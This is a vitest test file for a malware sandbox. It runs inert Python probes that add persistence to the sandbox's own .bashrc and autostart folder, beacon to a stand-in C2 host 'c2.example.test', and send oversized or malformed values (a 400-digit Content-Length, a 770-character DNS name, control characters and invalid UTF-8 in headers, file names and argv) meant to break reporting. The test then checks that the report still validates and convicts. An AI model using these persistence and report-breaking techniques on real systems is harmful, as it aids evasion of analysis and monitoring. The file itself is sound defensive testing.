import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DetonationReportSchema, REPORT_LIMITS } from '../../lambdas/core/contracts/detonation-report';
import { FAST, PresignedStandIn } from '../detonation/harness';
import { Canaries, detonateThrough, detonatorsUnderTest } from './harness';

/**
 * Probes that do something plainly malicious (persistence in the sandbox's own HOME, a C2 beacon
 * to the fake network) and then try to kill the report with values the sample controls: a
 * 400-digit Content-Length, a 770-character DNS name, huge and odd header values, invalid UTF-8
 * in file names and argv, a process name full of control characters. The report must still arrive
 * and still say suspicious or malicious. Every probe is inert: its names resolve to the fake
 * network, its files live in its own HOME, and it talks to nothing else.
 */

const PREAMBLE = `#!/usr/bin/env python3
# SANDTRAP-TEST-MALICIOUS report-killer probe. Inert: every name it uses is answered by the agent's
# fake resolver, every connection lands on the agent's fake network, every file is in its own HOME.
import os, socket, struct, subprocess
home = os.environ["HOME"]
# The malicious-looking part the rules must catch whatever comes next: shell start-up and autostart persistence.
with open(os.path.join(home, ".bashrc"), "a") as f:
    f.write("echo SANDTRAP-TEST-MALICIOUS-bashrc\\n")
os.makedirs(os.path.join(home, ".config/autostart"), exist_ok=True)
with open(os.path.join(home, ".config/autostart/sandtrap-test.desktop"), "w") as f:
    f.write("[Desktop Entry]\\nName=sandtrap-test\\nExec=true\\n")

def http(raw):
    try:
        with socket.create_connection(("c2.example.test", 80), timeout=3) as s:
            s.sendall(raw)
            s.recv(1024)
    except OSError as error:
        print("http:", error)

def dns(name):
    labels = b"".join(bytes([len(l)]) + l for l in name.split(b"."))
    packet = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(packet, ("127.0.0.1", 53))
        try:
            answer = s.recv(4096)
            return socket.inet_ntoa(answer[-4:]) if struct.unpack(">H", answer[6:8])[0] else None
        except OSError as error:
            print("dns:", error)
`;

const PROBES: Record<string, string> = {
  'content-length': `
# A 400-digit Content-Length, with enough body that the fake network answers at once.
http(b"POST /upload HTTP/1.1\\r\\nHost: c2.example.test\\r\\nContent-Length: " + b"9" * 400 + b"\\r\\n\\r\\n" + b"x" * 5000)
`,
  'long-dns-name': `
# A 770-character DNS name (twelve 63-byte labels and a tail), over the wire as the protocol allows.
name = b".".join([b"a" * 63] * 12) + b"." + b"b" * 2
assert len(name) == 770, len(name)
address = dns(name)
# Connect to the address the fake resolver gave that name, so the connection carries it as its hostname.
if address:
    try:
        with socket.create_connection((address, 80), timeout=3) as s:
            s.sendall(b"GET /long HTTP/1.1\\r\\nHost: " + name + b"\\r\\n\\r\\n")
            s.recv(1024)
    except OSError as error:
        print("connect:", error)
# Labels full of bytes that are not printable, and the same name as a beacon host.
dns(b"\\x1b[31m\\x07\\r\\xff\\xfe." + b"c" * 63 + b".example.test")
http(b"GET /beacon HTTP/1.1\\r\\nHost: " + b"d" * 700 + b".example.test\\r\\n\\r\\n")
`,
  'odd-headers': `
# Huge and odd header values: a 20 kB User-Agent of control characters and invalid UTF-8, a path of 5 kB.
agent = b"\\x1b]0;evil\\x07\\r\\x00\\xff\\xfe\\xc3\\x28" * 2500
http(b"GET /" + b"p" * 5000 + b" HTTP/1.1\\r\\nHost: c2.example.test\\r\\nUser-Agent: " + agent + b"\\r\\n\\r\\n")
http(b"POST\\x00\\xff /x HTTP/1.1\\r\\nContent-Length: -5\\r\\nContent-Length: NaN\\r\\n\\r\\nbody")
`,
  'odd-names': `
# Invalid UTF-8 and control characters in file names, argv and the process name.
bad = os.path.join(home.encode(), b"\\xff\\xfe\\x1b[2J\\r\\x07-drop\\xc3\\x28")
with open(bad, "wb") as f:
    f.write(b"#!/bin/sh\\nexit 0\\n")
os.chmod(bad, 0o755)
subprocess.run([bad, b"\\xff" * 700, b"\\x1b[31m\\r\\x07"], check=False)
subprocess.run([b"\\x1b]0;\\x07\\r\\xc3\\x28" + b"n" * 700], executable="/bin/true", check=False)
os.symlink(b"/bin/true", os.path.join(home.encode(), b"\\x07\\x1b\\r" * 80))
subprocess.run([os.path.join(home.encode(), b"\\x07\\x1b\\r" * 80)], check=False)
`,
};

const detonators = detonatorsUnderTest();

describe.skipIf(detonators.length === 0).each(detonators)(
  'report killers through the $name detonator',
  ({ detonator }) => {
    const s3 = new PresignedStandIn();
    const canaries = new Canaries();
    beforeAll(async () => {
      await s3.start();
      await canaries.start();
    });
    afterAll(async () => {
      await s3.stop();
      await canaries.stop();
    });

    it.each(Object.entries(PROBES))(
      '%s: the report arrives, validates and still convicts',
      async (name, body) => {
        const { report } = await detonateThrough(
          detonator,
          s3,
          { name: `killer-${name}.py`, body: Buffer.from(`${PREAMBLE}${body}`, 'latin1') },
          FAST,
        );
        expect(DetonationReportSchema.safeParse(report).success).toBe(true);
        expect(['suspicious', 'malicious']).toContain(report.verdict);
        expect(report.behavior.persistence.length).toBeGreaterThan(0);
        const network = report.network;
        for (const request of network.httpRequests.items) expect(Number.isSafeInteger(request.bodyBytes)).toBe(true);
        if (name === 'content-length') {
          expect(report.status).toBe('completed');
          // Clamped where it was declared: the largest count that is still a number.
          expect(network.httpRequests.items.map((r) => r.bodyBytes)).toContain(Number.MAX_SAFE_INTEGER);
        }
        if (name === 'long-dns-name') {
          expect(report.status).toBe('completed');
          const long = network.dnsQueries.items.find((q) => q.name.startsWith('a'.repeat(63)));
          expect(long?.name.length).toBe(REPORT_LIMITS.text);
          expect(long?.truncated).toBe(true);
          const connection = network.connections.items.find((c) => c.hostname?.startsWith('a'.repeat(63)));
          expect(connection?.hostname?.length).toBe(REPORT_LIMITS.text);
          expect(connection?.truncated).toBe(true);
        }
        expect(canaries.hits).toEqual([]);
      },
      60_000,
    );
  },
);
